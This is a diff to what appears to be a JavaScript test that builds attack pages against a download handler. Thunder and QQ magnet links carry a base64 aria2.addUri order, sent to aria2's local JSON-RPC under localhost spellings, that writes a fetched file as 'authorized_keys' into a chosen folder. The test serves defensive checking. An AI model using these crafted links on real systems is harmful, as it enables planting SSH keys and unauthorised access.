@@ -4,7 +4,7 @@
 // aria2's own JSON-RPC under the spellings of this machine that browsers and resolvers accept.
 'use strict';
 const assert = require('node:assert/strict');
-const {thunder} = require('./links');
+const {thunder, qqdl} = require('./links');
 const {htmlText, filesHost} = require('./pages');
 const {waitFor, waitUntil} = require('../../tests/support/patience');
 
@@ -164,16 +164,24 @@ async function checkHuge(hugeTab, otherTab, origin) {
 
 // The post of the aria2 attack: one honest download and Thunder links whose address is aria2's
 // own JSON-RPC, on each of `hosts`, asked (by GET) to fetch a file into a folder of the page's
-// choosing.
+// choosing; and QQ links of magnets whose tracker is that address, on each of `trackers` (a
+// tracker's announce is a GET aria2 runs as an order), escaped as magnets carry a tracker, or
+// not. Each magnet has an info hash of its own, in `magnetHashes`.
 const thisMachine = ['localhost', '127.1', '[::1]', '2130706433'];
-function attackLinks(aria2Port, filesPort, outside, hosts = thisMachine) {
+function attackLinks(aria2Port, filesPort, outside, hosts = thisMachine, trackers = []) {
   const params = Buffer.from(JSON.stringify(
       [[`http://${filesHost}:${filesPort}/files/a.zip`], {dir: outside, out: 'authorized_keys'}]))
                      .toString('base64');
   const query = `method=aria2.addUri&id=1&params=${encodeURIComponent(params)}`;
+  const order = (host) => `http://${host}:${aria2Port}/jsonrpc?${query}`;
+  const magnetHashes = trackers.map((_, i) => String(i + 1).padStart(2, '0').repeat(20));
+  const magnets = trackers.map((host, i) => qqdl(
+      `magnet:?xt=urn:btih:${magnetHashes[i]}&dn=x&tr=${i % 2 ? order(host) :
+                                                            encodeURIComponent(order(host))}`));
   return {
     honest: thunder(`http://${filesHost}:${filesPort}/files/影片 一.mp4`),
-    attacks: hosts.map((host) => thunder(`http://${host}:${aria2Port}/jsonrpc?${query}`)),
+    attacks: [...hosts.map((host) => thunder(order(host))), ...magnets],
+    magnetHashes,
   };
 }
 function attackPage(links) {
